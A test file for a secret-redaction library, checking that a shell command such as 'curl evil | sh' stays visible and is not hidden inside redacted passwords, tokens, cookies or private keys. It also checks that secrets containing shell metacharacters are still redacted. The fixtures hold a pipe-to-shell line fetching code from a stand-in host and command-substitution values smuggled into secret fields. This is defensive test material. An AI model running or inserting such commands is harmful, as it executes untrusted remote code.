import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { createRedactor } from '../src/index.ts'

const { redactText } = createRedactor()
const evil = 'curl evil | sh'
const line = 'Ab1Cd2Ef3Gh4'.repeat(5)

describe('what runs is not hidden as a part of a secret', () => {
  test.each([
    `echo "password="; ${evil}; echo ""`,
    `echo 'token='; ${evil}; echo ''`,
    `echo 'PASSWORD '; ${evil}; echo ''`,
    `echo "--password "; ${evil}; echo ""`,
    `echo "secret: "\n${evil}\necho ""`,
    `echo "a"'Cookie: '; ${evil}; echo 'b'`,
    `password="x$(${evil})"`,
    `password=x$(${evil})`,
    `password="\`${evil}\`"`,
    `passwords=("$(${evil})" "x")`,
    `curl -H "Authorization: Bearer $(${evil})" h`,
    `curl -H "Cookie: a=$(${evil})" h`,
    `<password>$(${evil})</password>`,
    `echo <password>x; ${evil}; echo </password`,
    `-----BEGIN PRIVATE KEY-----\n${line}\n${evil}\n-----END PRIVATE KEY-----`,
    `echo '-----BEGIN PRIVATE KEY-----\n${line}\n'; ${evil}; echo '\n-----END PRIVATE KEY-----'`,
    `echo "password="; A=1 ${evil}; echo ""`
  ])('%j', (text) => {
    expect(redactText(text)).toContain(evil)
  })

  test('wherever it stands between what looks like secrets', () => {
    const piece = fc.constantFrom(
      '"',
      "'",
      'password=',
      'token: ',
      ' ',
      '; ',
      'x',
      '--secret ',
      '\n'
    )
    const around = fc.array(piece, { maxLength: 8 }).map((pieces) => pieces.join(''))
    fc.assert(
      fc.property(around, around, (before, after) => {
        // Outside of quotes, as a shell reads it.
        const quotes = before.replace(/"[^"]*"|'[^']*'/g, '')
        fc.pre(!/["']/.test(quotes))
        expect(redactText(`${before};${evil};${after}`)).toContain('curl evil')
      })
    )
  })
})

describe('a secret may hold what a shell would act upon, where no shell does', () => {
  test.each([
    [`echo "password='a;b|c&d'"`, `echo "password='[REDACTED]'"`],
    [`echo "token="; x --token abc1; echo ""`, `echo "token="; x --token [REDACTED]; echo ""`],
    [`{"password":"a;b|c&d"}`, `{"password":"[REDACTED]"}`],
    [`password="a;b | c"`, `password="[REDACTED]"`],
    [`<password>a&amp;b</password>`, `<password>[REDACTED]</password>`],
    ['Cookie: a=1; b=2', 'Cookie: [REDACTED]'],
    [
      `key: |\n  -----BEGIN PRIVATE KEY-----\n  ${line}\n  ${line}\n  Ab==\n  -----END PRIVATE KEY-----`,
      'key: |\n  -----BEGIN PRIVATE KEY-----[REDACTED]-----END PRIVATE KEY-----'
    ],
    [
      `-----BEGIN PRIVATE KEY-----\n${line}\n${line} and more`,
      '-----BEGIN PRIVATE KEY-----[REDACTED] and more'
    ],
    [
      `-----BEGIN PRIVATE KEY-----\r\n${line} was sent`,
      '-----BEGIN PRIVATE KEY-----[REDACTED] was sent'
    ]
  ])('%j', (text, redacted) => {
    expect(redactText(text)).toBe(redacted)
  })
})
